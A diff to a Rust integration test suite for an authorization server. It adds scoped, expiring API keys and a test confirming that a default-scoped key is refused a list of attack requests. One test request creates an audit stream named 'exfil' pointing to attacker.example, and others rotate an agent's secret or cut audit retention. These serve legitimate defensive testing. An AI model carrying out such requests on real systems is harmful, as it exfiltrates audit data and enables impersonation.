@@ -2,7 +2,9 @@
 //! documents, health.
 
 use crate::support::*;
+use mandate::model::api_keys::ApiKeyScope;
 use mandate::server::domain::Call;
+use serde_json::json;
 use std::process::Command;
 
 fn cli(pool: &sqlx::PgPool, args: &[&str]) -> std::process::Output {
@@ -32,7 +34,12 @@ async fn cli_creates_an_org_and_an_api_key_that_the_api_accepts(pool: sqlx::PgPo
     let setup_url = org["setup_url"].as_str().unwrap();
     assert!(setup_url.starts_with("https://mandate.example/setup/mnd_inv_"), "{setup_url}");
 
-    let key = json_of(&cli(&app.pool, &["api-key", "create", "--org", &org_id]));
+    let key = json_of(&cli(
+        &app.pool,
+        &["api-key", "create", "--org", &org_id, "--scopes", "audit:read,introspect", "--expires-in", "90d"],
+    ));
+    assert_eq!(key["scopes"], json!(["introspect", "audit:read"]));
+    assert!(key["expires_at"].as_i64().unwrap() > time::OffsetDateTime::now_utc().unix_timestamp() + 89 * 86400);
     let key = key["api_key"].as_str().unwrap().to_string();
     assert!(key.starts_with("mnd_key_"));
     let stored: i64 =
@@ -120,7 +127,11 @@ async fn a_bad_query_string_is_a_400_problem(pool: sqlx::PgPool) {
     let key = mandate::server::domain::org::api_keys::create(
         &app.pool,
         Call::new(mandate::server::domain::Caller::Operator { org_id }, &meta(), time::OffsetDateTime::now_utc()),
-        "k",
+        mandate::server::domain::org::api_keys::NewApiKey {
+            name: "k",
+            scopes: &mandate::model::api_keys::ApiKeyScope::ALL,
+            expires_at: None,
+        },
     )
     .await
     .unwrap();
@@ -273,4 +284,121 @@ async fn every_documented_operation_is_routed_and_nothing_else_is(pool: sqlx::Pg
             }
         }
     }
+}
+
+/// Least privilege, item 2: API keys are scoped. A resource-server key (the default) introspects
+/// and reports, and is refused everything else an attacker would try with it: rotating an agent's
+/// secret (to mint as that agent), connections, streams, directories, retention, approvals,
+/// reading the trail. Keys expire, and a key without `introspect` cannot introspect.
+#[sqlx::test]
+async fn api_keys_do_only_what_their_scopes_say(pool: sqlx::PgPool) {
+    let app = spawn(pool).await;
+    let (org_id, owner) = app.org_with_owner("Acme").await;
+    let agent = app.approved_agent(org_id, "sam@acme.example", "Ledger", &["crm.read"]).await;
+    let token = app.token(&agent).await;
+    let resource_server = app.api_key_with(org_id, &ApiKeyScope::DEFAULT).await;
+    assert_eq!(app.introspect(&resource_server, &token).await["active"], true, "the default key introspects");
+
+    let client = app.bare_client();
+    let id = agent.agent_id;
+    let attacks: Vec<(reqwest::Method, String, serde_json::Value, &str)> = vec![
+        (reqwest::Method::POST, format!("/api/v1/agents/{id}/rotate_secret"), json!({}), "agents:write"),
+        (reqwest::Method::POST, format!("/api/v1/agents/{id}/revoke"), json!({}), "agents:write"),
+        (reqwest::Method::GET, "/api/v1/agents".into(), json!(null), "agents:read"),
+        (
+            reqwest::Method::POST,
+            "/api/v1/connections".into(),
+            json!({ "type": "oidc", "issuer": "https://idp.example", "client_id": "x", "client_secret": "y" }),
+            "sso:write",
+        ),
+        (
+            reqwest::Method::POST,
+            "/api/v1/audit/streams".into(),
+            json!({ "name": "exfil", "kind": "webhook", "url": "https://attacker.example/hook" }),
+            "streams:write",
+        ),
+        (reqwest::Method::POST, "/api/v1/directories".into(), json!({ "name": "Shadow" }), "directories:write"),
+        (reqwest::Method::PUT, "/api/v1/audit/retention".into(), json!({ "days": 30 }), "retention:write"),
+        (reqwest::Method::GET, "/api/v1/audit/events".into(), json!(null), "audit:read"),
+        (reqwest::Method::GET, "/api/v1/audit/export?format=csv".into(), json!(null), "audit:read"),
+        (reqwest::Method::GET, "/api/v1/scope_requests".into(), json!(null), "agents:read"),
+    ];
+    for (method, path, body, scope) in &attacks {
+        let mut request = client.request(method.clone(), app.url(path)).bearer_auth(&resource_server);
+        if !body.is_null() {
+            request = request.json(body);
+        }
+        let response = request.send().await.unwrap();
+        assert_eq!(response.status(), 403, "{method} {path}");
+        let problem: serde_json::Value = response.json().await.unwrap();
+        assert!(problem["detail"].as_str().unwrap().contains(scope), "{method} {path}: {problem}");
+    }
+    assert_eq!(app.request_token(&agent, None).await.status(), 200, "the agent's secret was not rotated");
+    let retention: i32 = sqlx::query_scalar("select audit_retention_days from organizations where id = $1")
+        .bind(org_id)
+        .fetch_one(&app.pool)
+        .await
+        .unwrap();
+    assert_ne!(retention, 30, "retention was not cut");
+    for table in ["connections", "audit_streams", "directories"] {
+        let count: i64 = sqlx::query_scalar(&format!("select count(*) from {table} where org_id = $1"))
+            .bind(org_id)
+            .fetch_one(&app.pool)
+            .await
+            .unwrap();
+        assert_eq!(count, 0, "nothing was created in {table}");
+    }
+
+    // A key given agents:write may rotate; one given only agents:read may read but not rotate.
+    let reader = app.api_key_with(org_id, &[ApiKeyScope::AgentsRead]).await;
+    let listed = client.get(app.url("/api/v1/agents")).bearer_auth(&reader).send().await.unwrap();
+    assert_eq!(listed.status(), 200);
+    let rotate = format!("/api/v1/agents/{id}/rotate_secret");
+    assert_eq!(client.post(app.url(&rotate)).bearer_auth(&reader).send().await.unwrap().status(), 403);
+    let writer = app.api_key_with(org_id, &[ApiKeyScope::AgentsWrite]).await;
+    assert_eq!(client.post(app.url(&rotate)).bearer_auth(&writer).send().await.unwrap().status(), 200);
+
+    // A key without `introspect` cannot introspect or revoke tokens.
+    let token = app.token(&app.approved_agent(org_id, "sam@acme.example", "Books", &["crm.read"]).await).await;
+    for endpoint in ["/oauth2/introspect", "/oauth2/revoke"] {
+        let response =
+            client.post(app.url(endpoint)).bearer_auth(&reader).form(&[("token", &token)]).send().await.unwrap();
+        assert_eq!(response.status(), 401, "{endpoint}");
+        let error: serde_json::Value = response.json().await.unwrap();
+        assert_eq!(error["error"], "invalid_client", "{endpoint}");
+    }
+    assert_eq!(app.introspect(&resource_server, &token).await["active"], true, "the token was not revoked");
+
+    // An expired key is refused like a revoked one.
+    sqlx::query("update api_keys set expires_at = now() - interval '1 second' where org_id = $1")
+        .bind(org_id)
+        .execute(&app.pool)
+        .await
+        .unwrap();
+    let expired = client.get(app.url("/api/v1/organization")).bearer_auth(&reader).send().await.unwrap();
+    assert_eq!(expired.status(), 401);
+
+    // Only owners create keys, an unknown scope is refused by name, and the choice is audited.
+    let browser = app.signed_in(&owner).await;
+    let unknown = browser
+        .rpc("api-keys/create", &[("name", "bad"), ("scopes[0]", "introspect"), ("scopes[1]", "agents:admin")])
+        .await;
+    assert_eq!(unknown.status(), 422);
+    assert!(unknown.text().await.unwrap().contains("agents:admin"));
+    let made = browser
+        .rpc("api-keys/create", &[("name", "crm"), ("scopes[0]", "introspect"), ("expires_in_days", "90")])
+        .await;
+    assert_eq!(made.status(), 200, "{}", made.text().await.unwrap());
+    let details: String = sqlx::query_scalar(
+        "select details from audit_events where org_id = $1 and action = 'api_key.created' order by seq desc limit 1",
+    )
+    .bind(org_id)
+    .fetch_one(&app.pool)
+    .await
+    .unwrap();
+    assert!(details.contains("\"scopes\":[\"introspect\"]") && details.contains("expires_at"), "{details}");
+    let admin = app.add_admin(org_id, "alex", mandate::model::Role::Admin).await;
+    let by_admin =
+        app.signed_in(&admin).await.rpc("api-keys/create", &[("name", "mine"), ("scopes[0]", "agents:write")]).await;
+    assert_eq!(by_admin.status(), 403, "an admin cannot give a key rights");
 }
